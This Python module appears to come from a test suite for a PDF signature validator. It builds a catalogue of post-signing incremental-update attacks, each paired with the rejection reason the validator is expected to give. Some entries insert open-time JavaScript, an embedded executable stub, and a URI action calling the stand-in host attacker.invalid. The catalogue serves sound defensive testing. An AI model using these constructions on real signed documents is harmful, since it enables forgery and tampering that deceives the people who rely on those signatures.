"""Changes saved after signing (ISA): as a proper update, behind the unit's signature or before it, and half hidden.

Every change here is made twice: after both signatures, and between them, where the unit's seal covers what its
signer never saw.

Longer than 250 lines: it is a catalogue. Each function is one attack, and none needs another.
"""

from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name

from common.domain.reason import Reason
from mint.attacks.raw import appended, body_of, last_table, root_of, stream, text, with_entry
from mint.attacks.registry import Class, Scene, add, attack
from mint.tamper import _updated

CHANGED = Reason.E_SIG_CHANGED
LOST = (Reason.E_SIG_COVERAGE, Reason.E_SIG_CHANGED, Reason.E_PDF_FORMAT)

Change = Callable[[bytes], bytes]


def change(kind: Class, *reasons: Reason, only_after: bool = False) -> Callable[[Change], Change]:
    """Enter a change twice: behind both signatures, and between them where a tool would still sign the result."""

    def enter(function: Change) -> Change:
        name = function.__name__
        add(f"{name}_after", kind, lambda scene: function(scene.signed), *(reasons or (CHANGED,)))
        if not only_after:
            add(f"{name}_between", kind, lambda scene: scene.between(scene.letter, function), *(reasons or (CHANGED,)))
        return function

    return enter


def _dictionary(**entries: Any) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name(f"/{key}"): value for key, value in entries.items()})


def _numbers(*values: int) -> generic.ArrayObject:
    return generic.ArrayObject(map(generic.NumberObject, values))


def _page(writer: Any) -> Any:
    return writer.root["/Pages"]["/Kids"][0].get_object()


def _on_page(**entries: Any) -> Change:
    def edit(writer: Any) -> None:
        _page(writer).update(_dictionary(**entries))
        writer.update_container(_page(writer))

    return lambda pdf: _updated(pdf, edit)


def _in_catalog(make: Callable[[Any], dict[str, Any]]) -> Change:
    def edit(writer: Any) -> None:
        writer.root.update(_dictionary(**make(writer)))
        writer.update_root()

    return lambda pdf: _updated(pdf, edit)


# the page


@change(Class.ISA)
def content_replaced(pdf: bytes) -> bytes:
    """The first page's content stream rewritten under its own number."""
    return appended(pdf, {4: stream(text(b"Da thay doi"))})


@change(Class.ISA)
def page_rotated(pdf: bytes) -> bytes:
    """Upside down."""
    return _on_page(Rotate=generic.NumberObject(180))(pdf)


@change(Class.ISA)
def page_cropped(pdf: bytes) -> bytes:
    """A box that leaves half of the text out."""
    return _on_page(CropBox=_numbers(0, 0, 600, 400))(pdf)


@change(Class.ISA)
def page_put_in_front(pdf: bytes) -> bytes:
    """A further page before the signed one."""

    def edit(writer: Any) -> None:
        pages = writer.root["/Pages"]
        new = _dictionary(Type=pdf_name("/Page"), Parent=writer.root.raw_get("/Pages"), MediaBox=_numbers(0, 0, 9, 9))
        pages["/Kids"].insert(0, writer.add_object(new))
        pages[pdf_name("/Count")] = generic.NumberObject(2)
        writer.update_container(pages)
        writer.update_container(pages["/Kids"])

    return _updated(pdf, edit)


@change(Class.ISA)
def pages_swapped_for_others(pdf: bytes) -> bytes:
    """The catalog points to another page tree."""
    return appended(
        pdf,
        {
            root_of(pdf): body_of(pdf, root_of(pdf)).replace(b"/Pages 1 0 R", b"/Pages 91 0 R"),
            91: b"<< /Type /Pages /Kids [92 0 R] /Count 1 >>",
            92: b"<< /Type /Page /Parent 91 0 R /MediaBox [0 0 595 842] /Contents 93 0 R /Resources 7 0 R >>",
            93: stream(text(b"Van ban khac")),
        },
    )


@change(Class.ISA)
def resources_replaced(pdf: bytes) -> bytes:
    """Another dictionary of fonts under the same number."""
    return appended(pdf, {7: b"<< /Font << /F1 95 0 R /F2 95 0 R >> >>", 95: b"<< /Type /Font /Subtype /Type3 >>"})


@change(Class.ISA)
def layers_added(pdf: bytes) -> bytes:
    """Optional content that hides what is on the page."""
    return _in_catalog(lambda w: {"OCProperties": w.add_object(_dictionary(OCGs=generic.ArrayObject()))})(pdf)


@change(Class.ISA)
def viewer_told_to_look_elsewhere(pdf: bytes) -> bytes:
    """Page labels and preferences: a reader sees another page number."""
    return _in_catalog(lambda _: {"PageLabels": _dictionary(Nums=generic.ArrayObject())})(pdf)


@change(Class.ISA)
def catalog_rewritten_in_an_object_stream(pdf: bytes) -> bytes:
    """The update hides in a compressed object stream, with a cross-reference stream."""
    return with_streams(pdf, {3: b"<< /Type /Page /Parent 1 0 R /MediaBox [0 0 9 9] >>"})


def with_streams(pdf: bytes, objects: dict[int, bytes]) -> bytes:
    """An update of objects packed in an object stream, listed by a cross-reference stream."""
    container, table = 97, 98
    head, body = b"", b""
    for number, each in objects.items():
        head += b"%d %d " % (number, len(body))
        body += each + b" "
    out = pdf
    place = len(out)
    entries = b"/Type /ObjStm /N %d /First %d" % (len(objects), len(head))
    out += b"%d 0 obj\n%s\nendobj\n" % (container, stream(head + body, entries, packed=True))
    start = len(out)
    rows, index = b"", b""
    listed = {number: (2, container, i) for i, number in enumerate(objects)}
    listed |= {container: (1, place, 0), table: (1, start, 0)}
    for number in sorted(listed):
        kind, where, position = listed[number]
        rows += bytes([kind]) + where.to_bytes(4, "big") + bytes([position])
        index += b"%d 1 " % number
    entries = b"/Type /XRef /Size 99 /W [1 4 1] /Index [%s] /Root %d 0 R /Prev %d" % (
        index, root_of(pdf), last_table(pdf)
    )  # fmt: skip
    out += b"%d 0 obj\n%s\nendobj\n" % (table, stream(rows, entries))
    return out + b"startxref\n%d\n%%%%EOF\n" % start


# half hidden


def _half(name: str, make: Callable[[Scene], bytes], *reasons: Reason) -> None:
    add(name, Class.ISA, make, *reasons)


OBJECT = b"4 0 obj\n" + stream(text(b"Da thay doi")) + b"\nendobj\n"

_half("objects_without_table", lambda s: s.signed + OBJECT + b"%%EOF\n", *LOST)
_half("table_at_zero", lambda s: s.signed + OBJECT + b"startxref\n0\n%%EOF\n", *LOST)
_half("table_far_away", lambda s: s.signed + OBJECT + b"startxref\n9999999\n%%EOF\n", *LOST)
_half("end_mark_in_a_comment", lambda s: s.signed + b"% " + OBJECT + b"%%EOF", *LOST)
_half("trailer_without_table", lambda s: s.signed + OBJECT + b"trailer\n<< /Root 2 0 R >>\n%%EOF\n", *LOST)
_half("second_end_mark", lambda s: s.signed + b"%%EOF\n", *LOST)
_half("blanks_and_an_old_end", lambda s: s.signed + b" " * 2000 + s.signed[s.signed.rindex(b"startxref") :], *LOST)
_half("two_ends_in_one_update", lambda s: content_replaced(s.signed) + b"startxref\n9\n%%EOF\n", *LOST)
_half("bytes_between_the_revisions", lambda s: s.by_unit(s.by_signer(s.letter) + OBJECT), *LOST)
_half("object_listed_twice", lambda s: appended(s.signed, {}, at={4: s.signed.index(b"3 0 obj")}), *LOST)
_half("old_object_listed_anew", lambda s: appended(s.signed, {}, at={3: s.signed.index(b"3 0 obj")}), *LOST)


# scripts and files


def _script(writer: Any) -> Any:
    action = _dictionary(S=pdf_name("/JavaScript"), JS=generic.TextStringObject("app.alert(1)"))
    return writer.add_object(action)


@change(Class.SCRIPT)
def script_by_name(pdf: bytes) -> bytes:
    """JavaScript through the catalog's ``/Names``, which runs when the document is opened."""

    def names(writer: Any) -> dict[str, Any]:
        listed = generic.ArrayObject([generic.TextStringObject("a"), _script(writer)])
        return {"Names": _dictionary(JavaScript=_dictionary(Names=listed))}

    return _in_catalog(names)(pdf)


@change(Class.SCRIPT)
def script_on_opening(pdf: bytes) -> bytes:
    """The catalog's ``/OpenAction``."""
    return _in_catalog(lambda writer: {"OpenAction": _script(writer)})(pdf)


@change(Class.SCRIPT)
def script_on_the_page(pdf: bytes) -> bytes:
    """A page's additional action."""

    def edit(writer: Any) -> None:
        _page(writer)[pdf_name("/AA")] = _dictionary(O=_script(writer))
        writer.update_container(_page(writer))

    return _updated(pdf, edit)


@change(Class.SCRIPT)
def script_on_the_signature(pdf: bytes) -> bytes:
    """An action on the signature's own field."""

    def edit(writer: Any) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        field[pdf_name("/AA")] = _dictionary(E=_script(writer))
        writer.update_container(field)

    return _updated(pdf, edit)


@change(Class.SCRIPT)
def file_attached(pdf: bytes) -> bytes:
    """A file through ``/Names`` ``/EmbeddedFiles``."""

    def names(writer: Any) -> dict[str, Any]:
        held = writer.add_object(generic.StreamObject(stream_data=b"MZ"))
        spec = _dictionary(Type=pdf_name("/Filespec"), F=generic.TextStringObject("a.exe"), EF=_dictionary(F=held))
        listed = generic.ArrayObject([generic.TextStringObject("a.exe"), writer.add_object(spec)])
        return {"Names": _dictionary(EmbeddedFiles=_dictionary(Names=listed))}

    return _in_catalog(names)(pdf)


@change(Class.SCRIPT)
def address_called_on_opening(pdf: bytes) -> bytes:
    """A document that phones home."""

    def action(writer: Any) -> dict[str, Any]:
        uri = _dictionary(S=pdf_name("/URI"), URI=generic.TextStringObject("http://attacker.invalid/"))
        return {"AA": _dictionary(WC=writer.add_object(uri))}

    return _in_catalog(action)(pdf)


# trailer, document information, freed objects


@change(Class.TRAILER)
def content_freed(pdf: bytes) -> bytes:
    """The page's content becomes a free object: the page is blank."""
    return appended(pdf, {}, freed=[4])


@change(Class.TRAILER, *LOST, only_after=True)
def content_under_a_new_generation(pdf: bytes) -> bytes:
    """Freed, and written again as another generation of the same number."""
    body = stream(text(b"Da thay doi"))
    out = pdf + b"4 1 obj\n" + body + b"\nendobj\n"
    page = body_of(pdf, 3).replace(b"/Contents 4 0 R", b"/Contents 4 1 R")
    grown = appended(out, {3: page}, previous=last_table(pdf))
    return grown.replace(b"xref\n3 1\n", b"xref\n4 1\n%010d 00001 n \n3 1\n" % len(pdf))


@change(Class.TRAILER, CHANGED, Reason.E_SIG_FORMAT, Reason.E_SIG_COVERAGE)
def root_exchanged(pdf: bytes) -> bytes:
    """The trailer names another catalog with the same form, over other pages."""
    catalog = body_of(pdf, root_of(pdf)).replace(b"/Pages 1 0 R", b"/Pages 91 0 R")
    return appended(
        pdf,
        {
            90: catalog,
            91: b"<< /Type /Pages /Kids [92 0 R] /Count 1 >>",
            92: b"<< /Type /Page /Parent 91 0 R /MediaBox [0 0 595 842] >>",
        },
        root=90,
    )


@change(Class.TRAILER, *LOST, only_after=True)
def size_shrunk(pdf: bytes) -> bytes:
    """A ``/Size`` below the numbers in use: some readers then see nothing of them."""
    return appended(pdf, {3: with_entry(body_of(pdf, 3), b"/Rotate 90")}, size=4)


@attack(Class.TRAILER, CHANGED)
def information_becomes_the_page(scene: Scene) -> bytes:
    """The trailer's ``/Info`` points to the page, and "document information" is renewed."""
    pdf = scene.signed
    return appended(pdf, {3: with_entry(body_of(pdf, 3), b"/Rotate 90")}, more=b"/Info 3 0 R")


@attack(Class.TRAILER, Reason.E_PDF_ENCRYPTED, Reason.E_PDF_FORMAT, CHANGED)
def encrypted_by_an_update(scene: Scene) -> bytes:
    """``/Encrypt`` in the last trailer: every string now reads otherwise."""
    entry = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -1 >>" % (b"o" * 32, b"u" * 32)
    return appended(scene.signed, {}, more=entry)


@attack(Class.TRAILER, *LOST, Reason.E_SIG_FORMAT)
def update_with_a_hybrid_stream(scene: Scene) -> bytes:
    """``/XRefStm`` in an update: a second table, which only some readers look at."""
    pdf = scene.signed
    rows = b"\x01" + len(pdf).to_bytes(4, "big") + b"\x00"
    out = pdf + b"3 0 obj\n<< /Type /Page /Parent 1 0 R /MediaBox [0 0 9 9] >>\nendobj\n"
    at = len(out)
    out += b"98 0 obj\n" + stream(rows, b"/Type /XRef /Size 99 /W [1 4 1] /Index [3 1]") + b"\nendobj\n"
    return appended(out, {}, at={98: at}, more=b"/XRefStm %d" % at, previous=last_table(pdf))
